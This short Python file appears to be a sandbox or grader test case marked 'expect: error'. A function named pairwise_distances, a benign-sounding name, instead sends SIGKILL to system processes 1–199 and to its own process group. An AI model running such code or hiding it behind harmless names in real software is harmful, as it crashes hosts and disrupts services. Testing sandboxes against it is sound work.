# expect: error
import os
import signal


def pairwise_distances(a, b):
    for pid in range(1, 200):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.killpg(0, signal.SIGKILL)
    return a
